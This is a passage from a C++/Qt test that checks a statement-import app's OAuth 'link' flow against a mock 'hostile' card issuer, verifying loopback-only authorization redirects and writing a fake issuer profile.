        auto process = m_cli->start({QStringLiteral("link"), kHostile, QStringLiteral("--no-browser"),
                                     QStringLiteral("--timeout"), QStringLiteral("60")});
        QByteArray out;
        QDeadlineTimer deadline(30000);
        while (!out.contains('\n') && !deadline.hasExpired() && process->state() != QProcess::NotRunning) {
            process->waitForReadyRead(200);
            out += process->readAllStandardOutput();
        }
        const QUrl authorization(QString::fromUtf8(out.left(out.indexOf('\n'))), QUrl::StrictMode);
        if (authorization.host() != u"127.0.0.1") {
            *why = QStringLiteral("no authorization URL: ") + QString::fromUtf8(out + process->readAllStandardError());
            return false;
        }
        const Reply approval = http("GET", authorization);
        const QUrl redirect = QUrl::fromEncoded(approval.location);
        if (approval.status != 302 || redirect.host() != u"127.0.0.1") {
            *why = QStringLiteral("authorization: HTTP %1 %2").arg(approval.status).arg(approval.error);
            return false;
        }
        const Reply delivered = http("GET", redirect);
        if (!process->waitForFinished(30000))
            process->kill();
        const QByteArray err = process->readAllStandardError();
        if (delivered.status != 200 || process->exitCode() != 0) {
            *why = QStringLiteral("loopback HTTP %1, link exit %2: %3").arg(delivered.status).arg(process->exitCode()).arg(QString::fromUtf8(err));
            return false;
        }
        return true;
    }

    QString discoveryUrl() const { return m_issuer.toString() + QStringLiteral("/.well-known/oauth-authorization-server"); }

    QString writeProfileFile()
    {
        QFile::copy(m_certs.caPath(), m_files.filePath(QStringLiteral("hostile-ca.pem")));
        const auto text = [](const QString& ja, const QString& en) {
            return QJsonObject{{QStringLiteral("ja"), ja}, {QStringLiteral("en"), en}};
        };
        QJsonArray scopes;
        for (const char* s : {"cards:read", "transactions:read", "statements:read", "limits:read"})
            scopes.append(QJsonObject{{QStringLiteral("name"), QString::fromLatin1(s)},
                                      {QStringLiteral("purpose"), text(QStringLiteral("明細の取り込み"), QStringLiteral("To import statements"))}});
        const QJsonObject profile{
            {QStringLiteral("format"), 1},
            {QStringLiteral("id"), kHostile},
            {QStringLiteral("display_name"), text(QStringLiteral("ホスタイルカード"), kHostileName)},
            {QStringLiteral("issuer"), m_issuer.toString()},
            {QStringLiteral("discovery_url"), discoveryUrl()},
            {QStringLiteral("client_id"), QStringLiteral("meisai-desktop")},
            {QStringLiteral("ca_file"), QStringLiteral("hostile-ca.pem")},
            {QStringLiteral("scopes"), scopes},
            {QStringLiteral("disclosures"),
             QJsonObject{{QStringLiteral("legal_name"), text(QStringLiteral("ホスタイルカード株式会社"), QStringLiteral("Hostile Card Co."))},
                         {QStringLiteral("inquiry_contact"),
                          QJsonObject{{QStringLiteral("name"), text(QStringLiteral("窓口"), QStringLiteral("Desk"))},
                                      {QStringLiteral("phone"), QStringLiteral("0120-000-666")}}}}},
        };
        QFile f(m_files.filePath(QStringLiteral("hostile.json")));
        if (!f.open(QIODevice::WriteOnly))
            return {};
        f.write(QJsonDocument(profile).toJson());
        return f.fileName();
    }
};

int main(int argc, char** argv)
{
    if (argc >= 4 && std::strcmp(argv[1], "--measure-child") == 0)
        return measureChild(argv[2], argv + 3);
    QCoreApplication app(argc, argv);
    TestHostileIssuer test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}
#include "TestHostileIssuer.moc"
